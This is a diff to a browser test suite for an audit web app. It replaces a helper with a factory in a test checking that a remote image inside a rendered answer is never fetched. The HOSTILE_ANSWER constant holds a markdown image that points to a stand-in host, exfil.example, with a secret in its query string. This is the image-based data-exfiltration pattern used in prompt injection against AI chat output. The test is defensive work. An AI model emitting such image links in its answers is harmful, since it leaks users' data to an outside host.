@@ -9,8 +9,8 @@ from playwright.sync_api import Browser, ConsoleMessage, Page, Request
 
 from audit_app.models import Job, Team
 from audit_app.services.submission import submit_job
+from tests.factories import FinishedJobFactory
 from tests.service.conftest import make_user
-from tests.service.test_web import finished_job
 
 pytestmark = pytest.mark.django_db(transaction=True)
 HOSTILE_ANSWER = """Yes. ![chart](http://exfil.example/c.png?d=SECRET)
@@ -53,7 +53,7 @@ def logged_in(browser: Browser, base_url: str, username: str) -> Watched:
 
 
 def test_a_remote_image_in_an_answer_is_never_requested(live_server, browser: Browser, analyst: User, team: Team):
-    job = finished_job(analyst, team, HOSTILE_ANSWER)
+    job = FinishedJobFactory(submitter=analyst, team=team, answer=HOSTILE_ANSWER)
     watched = logged_in(browser, live_server.url, "alice")
     watched.page.goto(f"{live_server.url}/jobs/{job.pk}/")
     watched.page.wait_for_load_state("networkidle")
